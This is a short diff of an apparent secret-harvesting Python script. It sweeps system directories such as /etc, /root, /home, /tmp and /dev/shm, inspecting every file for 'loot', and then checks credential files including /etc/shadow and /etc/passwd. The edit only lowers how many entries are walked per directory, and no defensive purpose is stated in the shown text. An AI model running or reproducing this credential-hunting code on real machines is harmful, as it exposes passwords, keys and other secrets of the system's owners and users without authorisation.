@@ -40,7 +40,7 @@ for home in ("/root", "/home", os.path.dirname("@home_file@")):
     python("secrets in every file there is", LOOK + r"""
 import itertools
 for top in ("/etc", "/run", "/var", "/opt", "/srv", "/mnt", "/tmp", "/dev/shm", "/sys", "/root", "/home"):
-    for folder, _, names in itertools.islice(os.walk(top), 300):
+    for folder, _, names in itertools.islice(os.walk(top), 60):
         loot = loot or look(*[os.path.join(folder, n) for n in names if os.path.isfile(os.path.join(folder, n))])
 for name in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/etc/resolv.conf"):
     if os.path.exists(name): loot = loot or name
